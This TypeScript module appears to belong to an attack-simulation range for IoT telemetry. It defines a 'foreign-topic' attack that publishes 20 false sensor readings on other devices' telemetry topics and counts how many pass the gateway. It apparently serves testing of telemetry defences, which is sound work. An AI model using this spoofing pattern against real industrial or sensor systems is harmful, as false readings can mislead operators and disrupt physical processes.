import type { Attack } from './attack.ts'
import { publish } from './packets.ts'

const MESSAGES = 20

/** Publishes false readings as other devices. Effect: false readings that arrived behind the gateway. */
export const foreignTopic: Attack = {
  name: 'foreign-topic',
  technique: 'T1692.002',
  title: "Publish on other devices' telemetry topics",
  expected: 'access',
  alone: false,
  seconds: () => 3,
  async run(range) {
    await range.proveAccess()
    const { marker, sighting } = range.mark()
    const victims = ['level-1', 'temperature-2', 'flow-3', 'vibration-1']
    const messages = Array.from({ length: MESSAGES }, (_, i) => {
      const device = victims[i % victims.length]
      const payload = JSON.stringify({ ...range.report(marker), device })
      return publish(4, { topic: range.topic(device, 'telemetry'), payload, qos: i % 2 === 0 ? 0 : 1 }, i + 1)
    })
    const attempts = await range.deliver(4, messages)
    return { attempts, effect: sighting.count, detail: `${sighting.count} of ${attempts} false readings arrived` }
  },
}
